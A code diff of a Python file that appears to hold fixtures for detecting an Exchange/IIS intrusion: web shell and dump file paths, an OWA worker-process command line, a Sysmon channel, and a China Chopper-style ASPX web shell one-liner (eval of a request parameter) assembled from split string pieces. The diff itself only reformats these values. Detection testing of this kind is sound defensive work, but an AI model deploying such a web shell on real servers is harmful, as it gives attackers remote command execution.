@@ -14,9 +14,21 @@ HP, ECP, CMDLET, IIS, EVTX = (
 CLIENT, USER_OF_SHELL = "203.0.113.7", "198.51.100.3"
 CANARY, GUID = "Abc-123_x.y", "7a1b2c3d-0000-4000-8000-00000000abcd"
 SHELL = r"C:\inetpub\wwwroot\aspnet_client\discover.aspx"
-COMPILED = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\2\discover.aspx.cdcab7d2.compiled"
+COMPILED = (
+    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\2\discover.aspx.cdcab7d2.compiled"
+)
 DUMP = r"C:\Windows\Temp\x.dmp"
-SCRIPT = "".join(('http://f/<scr', 'ipt run', 'at="ser', 'ver">function Page_', 'Load(){ev', 'al(Request["k1"],"uns', 'afe");}</scr', "ipt>"))  # fmt: skip
+_PIECES = (
+    "http://f/<scr",
+    "ipt run",
+    'at="ser',
+    'ver">function Page_',
+    "Load(){ev",
+    'al(Request["k1"],"uns',
+    'afe");}</scr',
+    "ipt>",
+)
+SCRIPT = "".join(_PIECES)
 POOL = r'c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"'
 SYSMON = "Microsoft-Windows-Sysmon/Operational"
 
